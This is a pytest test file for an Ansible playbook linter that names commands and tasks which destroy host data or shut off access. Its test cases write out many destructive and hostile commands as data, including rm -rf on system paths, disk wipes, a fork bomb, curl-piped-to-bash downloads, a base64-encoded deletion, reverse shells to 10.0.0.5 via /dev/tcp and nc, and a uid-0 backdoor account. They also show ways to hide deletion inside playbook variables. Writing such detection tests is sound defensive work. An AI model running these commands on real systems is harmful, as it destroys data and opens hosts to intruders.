"""What destroys a host's data or shuts the way in is said on the card in red, by whatever words a playbook does it."""

from __future__ import annotations

import hashlib
import time
from typing import Any

import pytest
import yaml

from mesh_core.models.yaml_loader import SafeDumper
from mesh_core.policy.playbook_lint import Lint, Widened, lint_text
from mesh_core.policy.policy import Policy

POLICY = Policy.load(None)
WIDENED = Widened(
    {
        "ansible.builtin.shell": ("cmd", "chdir", "stdin"),
        "ansible.builtin.command": ("argv", "cmd"),
        "ansible.builtin.iptables": ("chain", "flush"),
    }
)


def lint(*tasks: dict[str, Any], files: dict[str, str] | None = None, **play: Any) -> Lint:
    plays = [{"hosts": "n1", **play, "tasks": list(tasks)}]
    text = yaml.dump(plays, Dumper=SafeDumper, sort_keys=False)  # the one in Python takes seconds for a long text
    return lint_text(text, "n1", files or {}, WIDENED, protected=POLICY.is_lifeline)


def shell(command: str) -> tuple[str, ...]:
    found = lint({"shell": command})
    assert not found.problems
    return found.dangers


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf -- /srv/data/photos",
        "rm -rf $DIR",
        'rm -rf "${BACKUP_DIR:?}"/*',
        "rm -rf $(cat /etc/victims)",
        "rm -rf `cat x`",
        "rm -rf /tmp/../etc",
        "cd / && rm -rf etc",
        "\\rm -rf /opt/app/data",
        "/usr/bin/rm -rf /opt/app/data",
        "sudo -u root env X=1 nice -n 5 rm -rf /opt/app/data",
        "rm -f /srv/shop/*",
        "ls /srv | xargs rm",
        "find /srv -name '*.bak' -print0 | xargs -0 -I{} rm -f {}",
        "find /srv/media -mtime +30 -delete",
        "find . -type f -exec rm {} \\;",
        "python3 -c 'import shutil; shutil.rmtree(\"/srv\")'",
        "truncate -s 0 /var/lib/mysql/ibdata1",
        "true; zfs destroy -r tank/home",
        "zfs rollback tank@yesterday",
        "lvremove -f vg0/root",
        "lvreduce -L 5G /dev/vg0/root",
        "wipefs --all /dev/sdb",
        "parted -s /dev/sdb mklabel gpt",
        "echo ',,L' | sfdisk /dev/sdb",
        "sgdisk --zap-all /dev/sdb",
        "mkfs -t xfs /dev/vdb",
        "mkfs.btrfs -f /dev/nvme1n1",
        "nvme format /dev/nvme0n1",
        "dd if=/dev/zero of=/dev/zvol/tank/vm bs=1M",
        "cat image.img >/dev/sda",
        "gunzip -c x.gz | tee /dev/mmcblk0",
        "cp x.img /dev/mapper/vg0-root",
        "docker volume rm shop_db",
        "docker volume prune -af",
        "docker system prune --all --force --volumes",
        "docker compose --project-directory /srv/shop down --volumes",
        "docker rm -f $(docker ps -aq)",
        "docker exec db rm -rf /var/lib/postgresql/data",
        "docker run --rm -v /:/host alpine rm -rf /host/etc",
        "kubectl delete namespace shop",
        "k3s kubectl delete pvc --all",
        "helm uninstall shop",
        "virsh undefine --remove-all-storage vm1",
        "pct destroy 101",
        "incus delete --force box",
        "terraform destroy -auto-approve",
        "restic forget --keep-last 1 --prune",
        "rsync -a --delete empty/ /srv/data/",
        "rclone purge remote:photos",
        "redis-cli FLUSHALL",
        "mysql -e 'DROP TABLE users'",
        "psql -c 'delete from users'",
        "curl -X DELETE http://es:9200/_all",
        "git clean -fdx",
        "userdel -r anna",
        "deluser anna",
        "crontab -r",
        "apt-get purge -y docker-ce",
        "pacman -Rns linux",
        "chmod -R 777 /",
        "chmod -R a+rwx /srv/data",
        "chown -R nobody: /etc",
        "mv /home /dev/null",
        "mv /etc /etc.old",
        "curl -fsSL http://example.org/x | sudo bash",
        "bash <(curl -s http://example.org/x)",
        'bash -c "$(curl -s http://example.org/x)"',
        "echo cm0gLXJmIC8K | base64 -d | sh",
        'eval "$CMD"',
        "$CMD -rf /",
        ":(){ :|:& };:",
        "iptables -F",
        "iptables -P INPUT DROP",
        "ip6tables --flush INPUT",
        "nft flush ruleset",
        "ufw --force reset",
        "ip link set eth0 down",
        "nmcli con down eth0",
        "wg-quick down wg0",
        "systemctl stop sshd",
        "systemctl disable --now ssh.socket",
        "service ssh stop",
        "/etc/init.d/ssh stop",
        "pkill -9 sshd",
        "docker stop redis",
        "systemctl mask tailscaled",
        "shutdown -h now",
        "systemctl poweroff",
        "passwd -l root",
        "sed -i s/yes/no/ /etc/ssh/sshd_config",
        "echo x > /root/.ssh/authorized_keys",
        "kill -9 -1",
        "# nothing\nset -e\nrm -rf /srv/data",
        "if true; then rm -rf /srv/data; fi",
        "sleep 1 & rm -rf /srv/data",
        "echo hi \\\n && rm -rf /srv/data",
        "x=$(rm -rf /srv/data)",
        "x" * 9000 + "; rm -rf /srv/data",
        "lxc-destroy -n box",
        "/usr/local/bin/k3s-uninstall.sh",
        "podman system reset --force",
        "podman pod rm -fa",
        "mdadm --stop /dev/md0",
        "umount -l /srv",
        "echo b > /proc/sysrq-trigger",
        ": > /srv/db.sqlite",
        "> /etc/motd",
        "cat /dev/null > /srv/db.sqlite",
        "iptables-restore < /root/rules",
        "gpasswd -d anna sudo",
        "mysqladmin drop shop",
        "mongosh --eval 'db.dropDatabase()'",
        "aws s3 rb s3://x --force",
        "crontab - < /dev/null",
        "rsync --remove-source-files -a /srv/ nas:",
        "xfs_repair -L /dev/sda1",
        "tune2fs -O ^has_journal /dev/sda1",
        "awk 'BEGIN{system(\"rm -rf /srv\")}'",
        "perl -MFile::Path -e 'remove_tree(\"/srv\")'",
        'node -e \'require("fs").rmSync("/srv",{recursive:true})\'',
        "php -r 'unlink(\"/srv/x\");'",
        "rm -- /srv/photos/*.jpg",
        "rm -f /boot/vmlinuz",
        'for f in /srv/*; do rm "$f"; done',
        "echo -n > /srv/db.sqlite",
        "cp /dev/null /srv/db.sqlite",
        "ln -sf /dev/null /srv/db.sqlite",
        "mv /var/lib/docker /tmp/x",
        "echo 1 > /sys/block/sda/device/delete",
        "zfs receive -F tank/x",
        "dmsetup remove_all",
        "losetup -D",
        "efibootmgr -b 0001 -B",
        "virsh vol-delete x",
        "nomad job stop -purge web",
        "mongo --eval 'db.users.remove({})'",
        "curl -X POST http://es:9200/x/_delete_by_query",
        "redis-cli --scan | xargs redis-cli del",
        "rabbitmqctl force_reset",
        "git reset --hard HEAD~5",
        "git push --force",
        "docker container prune -f",
        "docker service rm web",
        "docker kill $(docker ps -q)",
        "echo root:x | chpasswd",
        "chage -E 0 root",
        "wg set wg0 peer x remove",
        "rfkill block all",
        "tc qdisc add dev eth0 root netem loss 100%",
        "netplan apply",
        "kill -9 $(pidof sshd)",
        "curl -s http://x -o /tmp/x && sh /tmp/x",
        "wget -O /tmp/x http://x; chmod +x /tmp/x; /tmp/x",
        "bash -i >& /dev/tcp/10.0.0.5/1 0>&1",
        "nc -e /bin/sh 10.0.0.5 1",
        "$(which rm) -rf /srv",
        "alias ls='rm -rf /srv'; ls",
        "echo 'rm -rf /srv' | at now",
        "zpool detach tank sda",
        "btrfs device remove /dev/sdb /data",
        "btrfs check --repair /dev/sda1",
        "lvconvert --merge vg0/snap",
        "vgchange -an",
        "cryptsetup luksClose data",
        "docker exec redis redis-cli flushall",
        "docker node rm x",
        "crictl rmp -a",
        "kubectl drain n1",
        "virsh snapshot-revert vm s1",
        "pct stop 101",
        "loginctl terminate-user root",
        "pkill -9 -u root",
        "fuser -km /mnt",
        "rm -f /etc/fstab",
        "chmod 777 /etc/shadow",
        "useradd -o -u 0 evil",
        "echo 'ALL: ALL' > /etc/hosts.deny",
        "apt-get dist-upgrade -y",
        "python3 -c \"__import__('subprocess').call(['rm', '-rf', '/srv'])\"",
        "rsync -a --del empty/ /srv/",
        "aws ec2 terminate-instances --instance-ids x",
        "rake db:drop",
        "python manage.py flush --noinput",
        "mysqladmin shutdown",
        "pg_resetwal -f /data",
        "git branch -D x",
    ],
)
def test_a_command_that_destroys_or_shuts_out_is_named(command: str) -> None:
    assert shell(command)


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /tmp/build",
        "rm -rf /tmp/$name /var/cache/apt/archives",
        "rm -f /srv/app/old.log",
        "find /tmp -mtime +7 -delete",
        "find /srv -name x -print",
        "apt-get install -y parted wipefs shred",
        "pip install -r requirements.txt -e .",
        "echo rm -rf /",
        "grep -r shred /etc",
        "which mkfs.ext4",
        "parted /dev/sda print",
        "fdisk -l",
        "sfdisk -d /dev/sda > /root/table",
        "wipefs -n /dev/sda",
        "zpool scrub tank",
        "zpool status",
        "btrfs scrub start /data",
        "docker compose up -d --remove-orphans",
        "docker run --rm alpine true",
        "docker system prune -f",
        "docker ps --format json",
        "docker rm -f web",
        "docker restart web",
        "dd if=/dev/zero of=/swapfile bs=1M count=512",
        "echo x > /dev/null 2>&1",
        "echo x >/dev/stderr",
        "chown -R www-data: /var/www",
        "chmod -R u+w /srv/app",
        "chmod 755 /usr/local/bin/x",
        "mv /srv/a /srv/b",
        "systemctl stop nginx",
        "systemctl restart sshd",
        "systemctl status parted",
        "iptables -L -n",
        "iptables -A INPUT -p tcp --dport 80 -j ACCEPT",
        "ip addr show",
        "ufw allow 80",
        "python3 script.py",
        "cat x | python3 -m json.tool",
        "bash /opt/x.sh",
        "source /opt/venv/bin/activate",
        "curl -s http://x | jq .format",
        "kubectl get pods",
        "psql -c 'select 1'",
        "sed -i s/a/b/ /etc/motd",
        "git pull",
        "journalctl --vacuum-time=7d",
        "rsync -a /srv/ /backup/",
        "smartctl -a /dev/sda",
        "mount /dev/sdb1 /mnt",
        "dd if=/dev/sda of=/backup/disk.img",
        "docker run -d --device /dev/dri web",
        "docker rm -f web && docker compose up -d",
        "docker logs web | grep delete",
        "echo 3 > /proc/sys/vm/drop_caches",
        "echo hello > /srv/x",
        "iptables-save > /root/rules",
        "cp /etc/ssh/sshd_config /root/",
        "usermod -aG docker bob",
        "date +%F",
        "kill -HUP $(cat /run/nginx.pid)",
        "mv /etc/x.conf.new /etc/x.conf",
        "curl -o /etc/apt/keyrings/x.asc https://example.org/x.asc",
        "wget -q https://example.org/x.tar.gz -O /tmp/x.tar.gz && tar -xzf /tmp/x.tar.gz -C /opt",
        "docker image prune -f",
        "docker restart $(docker ps -q)",
        "git checkout main",
        "cp -a /srv/a /srv/b",
        "ln -s /opt/x/bin/x /usr/local/bin/x",
        "printf 'x' > /etc/x.conf",
        "python3 -c 'print(1)'",
        "resolvectl flush-caches",
        '[ "$x" = y ] && echo ok',
        '[[ "$a" == b ]] || exit 1',
        "timeout 5 bash -c 'until nc -z localhost 80; do sleep 1; done'",
        'rm -f "$LOCK"',
        "btrfs device stats /data",
        "pkill -HUP -u nobody dnsmasq",
        "docker run --rm x echo delete",
        "docker exec db pg_dump x",
        "git reset HEAD~1",
        'python3 -c \'print(["a","b"])\'',
        "awk '{print $1}' /var/log/x",
    ],
)
def test_an_ordinary_command_is_not(command: str) -> None:
    assert shell(command) == ()


@pytest.mark.parametrize(
    "task",
    [
        {"file": {"path": "/", "state": "absent"}},
        {"file": {"path": "/srv/photos", "state": "absent"}},
        {"file": {"path": "/etc/nginx/sites.d", "state": "absent"}},
        {"file": {"dest": "{{ where }}", "state": "absent"}, "vars": {"where": "/srv/data"}},
        {"file": {"path": "{{ item }}", "state": "absent"}, "loop": ["/tmp/x", "/var/lib/mysql"]},
        {"file": {"path": "/", "state": "directory", "recurse": True, "mode": "0777"}},
        {"file": {"path": "/srv/x", "state": "directory", "recurse": True, "mode": "a+rwx"}},
        {"copy": {"content": "x", "dest": "/dev/sda"}},
        {"copy": {"content": "", "dest": "/etc/ssh/sshd_config"}},
        {"lineinfile": {"path": "/etc/sudoers", "line": "x"}},
        {"copy": {"content": "#!/bin/sh\nrm -rf /srv/data\n", "dest": "/root/x"}},
        {"copy": {"content": "rm -rf /srv/data\n", "dest": "/root/x", "mode": "0755"}},
        {"copy": {"content": "[Service]\nExecStart=/bin/rm -rf /srv/data\n", "dest": "/etc/systemd/system/x.service"}},
        {"cron": {"name": "x", "job": "rm -rf /srv/data"}},
        {"community.docker.docker_container": {"name": "x", "image": "a", "command": ["rm", "-rf", "/host"]}},
        {"community.docker.docker_volume": {"name": "db", "state": "absent"}},
        {"community.docker.docker_compose_v2": {"project_src": "/srv/x", "state": "absent"}},
        {"community.docker.docker_prune": {"containers": True}},
        {"community.docker.docker_container": {"name": "redis", "state": "stopped"}},
        {"systemd": {"name": "sshd", "state": "stopped"}},
        {"service": {"name": "ssh.service", "enabled": False}},
        {"systemd": {"name": "{{ item }}", "masked": True}, "loop": ["nginx", "tailscaled"]},
        {"user": {"name": "anna", "state": "absent", "remove": True}},
        {"apt": {"name": "docker-ce", "state": "absent", "purge": True}},
        {"apt": {"autoremove": True}},
        {"ansible.posix.mount": {"path": "/srv", "state": "absent"}},
        {"ansible.posix.authorized_key": {"user": "root", "key": "x", "exclusive": True}},
        {"community.general.ufw": {"state": "reset"}},
        {"community.general.ufw": {"default": "deny"}},
        {"ansible.posix.selinux": {"state": "permissive"}},
        {"git": {"repo": "https://example.org/x.git", "dest": "/srv/x", "force": True}},
        {"copy": {"content": "", "dest": "/srv/db.sqlite"}},
        {"user": {"name": "root", "shell": "/usr/sbin/nologin"}},
        {"user": {"name": "anna", "password": "!"}},
        {"service": {"name": "networking", "state": "stopped"}},
        {"ansible.builtin.iptables": {"chain": "INPUT", "flush": True}},
        {"command": {"argv": ["/usr/bin/env", "sh", "-c", "rm -rf /srv"]}},
        {"command": "rm -rf /srv/data"},
        {"shell": {"cmd": "rm -rf *", "chdir": "/"}},
        {"shell": {"cmd": "sh", "stdin": "rm -rf /srv/data"}},
    ],
)
def test_a_task_that_takes_away_is_named_by_its_module(task: dict[str, Any]) -> None:
    found = lint(task)
    assert not found.problems
    assert found.dangers


@pytest.mark.parametrize(
    "task",
    [
        {"file": {"path": "/etc/apt/sources.list.d/x.list", "state": "absent"}},
        {"file": {"path": "/tmp/x", "state": "absent"}},
        {"file": {"path": "/srv/x", "state": "directory", "owner": "www-data", "recurse": True}},
        {"copy": {"content": "rm -rf is a command", "dest": "/etc/motd", "mode": "0644"}},
        {"systemd": {"name": "nginx", "state": "stopped"}},
        {"systemd": {"name": "sshd", "state": "restarted"}},
        {"apt": {"name": ["parted", "nginx"], "state": "present", "update_cache": True}},
        {"community.docker.docker_container": {"name": "web", "state": "stopped"}},
        {"community.docker.docker_prune": {"images": True}},
        {"community.general.ufw": {"rule": "allow", "port": "80"}},
        {"ansible.posix.selinux": {"state": "enforcing", "policy": "targeted"}},
        {"ansible.posix.mount": {"path": "/srv", "src": "x", "fstype": "nfs", "state": "mounted"}},
        {"cron": {"name": "x", "job": "/usr/bin/true"}},
        {"copy": {"content": "", "dest": "/srv/x", "force": False}},
    ],
)
def test_an_ordinary_task_is_not(task: dict[str, Any]) -> None:
    found = lint(task)
    assert (found.problems, found.dangers) == ((), ())


EVIL = "rm -rf /srv/data"


@pytest.mark.parametrize(
    "play",
    [
        {"tasks": [{"block": [{"shell": EVIL}]}]},
        {"tasks": [{"block": [{"ping": {}}], "rescue": [{"shell": EVIL}]}]},
        {"tasks": [{"block": [{"ping": {}}], "always": [{"block": [{"shell": EVIL}]}]}]},
        {"tasks": [], "handlers": [{"name": "h", "shell": EVIL}]},
        {"pre_tasks": [{"shell": EVIL}]},
        {"post_tasks": [{"shell": EVIL, "when": "false"}]},
        {"vars": {"what": EVIL}, "tasks": [{"shell": "{{ what }}"}]},
        {"vars": {"a": "r", "b": "m -rf"}, "tasks": [{"shell": "{{ a }}{{ b }} /srv/data"}]},
        {"vars": {"outer": "{{ inner }} /srv", "inner": "rm -rf"}, "tasks": [{"shell": "{{ outer }}"}]},
        {"vars": {"m": {"x": [EVIL]}}, "tasks": [{"shell": "{{ m.x[0] }}"}]},
        {"tasks": [{"shell": "{{ item }}", "loop": ["true", EVIL]}]},
        {"tasks": [{"shell": "{{ item }}", "loop": [*["true"] * 150, EVIL]}]},
        {"tasks": [{"shell": "{{ item }}", "loop": [*["true"] * 900, EVIL]}]},
        {"tasks": [{"shell": "{{ item.c }}", "loop": [{"c": "true"}, {"c": EVIL}]}]},
        {"vars": {"all_of_it": ["true", EVIL]}, "tasks": [{"shell": "{{ item }}", "loop": "{{ all_of_it }}"}]},
        {"tasks": [{"shell": "{{ 'rm' ~ ' -rf ' }}/srv/data"}]},
        {"tasks": [{"shell": "{{ nowhere | default('rm -rf') }} /srv/data", "vars": {"nowhere": ""}}]},
        {"tasks": [{"set_fact": {"said": EVIL}}, {"shell": "{{ said }}"}]},
        {"tasks": [{"command": "cat /x", "register": "out"}, {"shell": "{{ out.stdout }}"}]},
        {"tasks": [{"command": "cat /x", "register": "out"}, {"shell": "rm -rf {{ out.stdout }}"}]},
        {
            "tasks": [
                {"command": "cat /x", "register": "out"},
                {"file": {"path": "{{ out.stdout }}", "state": "absent"}},
            ]
        },
    ],
)
def test_no_place_in_a_playbook_hides_it(play: dict[str, Any]) -> None:
    text = yaml.dump([{"hosts": "n1", **play}], Dumper=SafeDumper, sort_keys=False)
    found = lint_text(text, "n1", {}, WIDENED)
    assert not found.problems
    assert found.dangers


def test_a_program_among_the_attachments_is_read() -> None:
    script = "#!/bin/sh\nset -e\nrm -rf /srv/data\n"
    sha256 = hashlib.sha256(script.encode()).hexdigest()
    copied = {"copy": {"src": f"files/{sha256}", "dest": "/root/tidy"}}
    assert "removes a whole tree" in " ".join(lint(copied, files={sha256: script}).dangers)


def test_the_sentence_says_what_and_where() -> None:
    assert shell("sudo rm -rf /srv/data") == ("it removes a whole tree of the host: sudo rm -rf /srv/data",)
    assert lint({"systemd": {"name": "sshd", "state": "stopped"}}).dangers == (
        "it stops sshd, which the mesh or the way in depends on: systemd sshd",
    )
    assert len(shell("rm -rf " + "/srv/data/" * 99)[0]) < 200


def test_text_of_any_size_takes_no_time() -> None:
    began = time.process_time()
    for text in (
        "rm -rf /srv " * 20_000,
        "$(" * 100_000,
        "a() { | " * 20_000,
        "> " * 100_000,
        "`" * 200_000,
        "<" * 200_000,
    ):
        lint({"shell": text[: 240 * 1024]})
    assert time.process_time() - began < 20
